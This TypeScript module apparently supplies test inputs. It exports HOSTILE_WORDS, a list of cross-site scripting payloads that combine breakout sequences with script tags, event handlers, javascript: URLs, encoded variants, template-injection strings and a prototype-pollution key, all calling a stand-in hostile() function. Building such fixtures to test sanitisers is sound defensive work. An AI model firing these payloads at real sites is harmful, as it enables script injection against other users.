/**
 * Ways to break out of a text, attribute or address. `HOSTILE_WORDS` combines each with executable code that
 * calls `hostile()`.
 */
const ways = ['', '">', "'>", '</textarea>', '</title>', '</script>', '-->', '`>'];
const things = [
  '<script>hostile()</script>',
  '<SCRIPT SRC=data:text/javascript,hostile()></SCRIPT>',
  '<img src=x onerror=hostile()>',
  '<img src="x" onerror="hostile()" alt="',
  '<svg onload=hostile()>',
  '<svg><script>hostile()</script></svg>',
  '<svg><animate onbegin=hostile() attributeName=x dur=1s>',
  '<math><mtext></p><img src=x onerror=hostile()></mtext></math>',
  '<iframe srcdoc="<script>parent.hostile()</script>">',
  '<iframe src="javascript:parent.hostile()"></iframe>',
  '<object data="javascript:hostile()"></object>',
  '<embed src="javascript:hostile()">',
  '<body onload=hostile()>',
  '<input autofocus onfocus=hostile()>',
  '<details open ontoggle=hostile()>',
  '<video><source onerror=hostile()></video>',
  '<audio src=x onerror=hostile()>',
  '<a href="javascript:hostile()">go</a>',
  '<form action="javascript:hostile()"><button autofocus>',
  '<link rel=stylesheet href="data:text/css,*{x:expression(hostile())}">',
  '<style>@import "javascript:hostile()";</style>',
  '<base href="javascript:hostile()//">',
  '<meta http-equiv=refresh content="0;url=javascript:hostile()">',
];
const others = [
  'javascript:hostile()',
  'JaVaScRiPt:hostile()',
  'java\tscript:hostile()',
  ' javascript:hostile()',
  'data:text/html,<script>parent.hostile()</script>',
  'vbscript:hostile()',
  '{{constructor.constructor("hostile()")()}}',
  '\u0024{hostile()}',
  "'-hostile()-'",
  '"-hostile()-"',
  '" onmouseover="hostile()',
  "' onfocus='hostile()' autofocus='",
  '&lt;script&gt;hostile()&lt;/script&gt;',
  '\\u003cscript\\u003ehostile()\\u003c/script\\u003e',
  '%3Cscript%3Ehostile()%3C/script%3E',
  '\u2028hostile()\u2029',
  '<scr\u0130pt>hostile()</scr\u0130pt>',
  '__proto__',
];

export const HOSTILE_WORDS: readonly string[] = [
  ...ways.flatMap((way) => things.map((thing) => way + thing)),
  ...others,
];
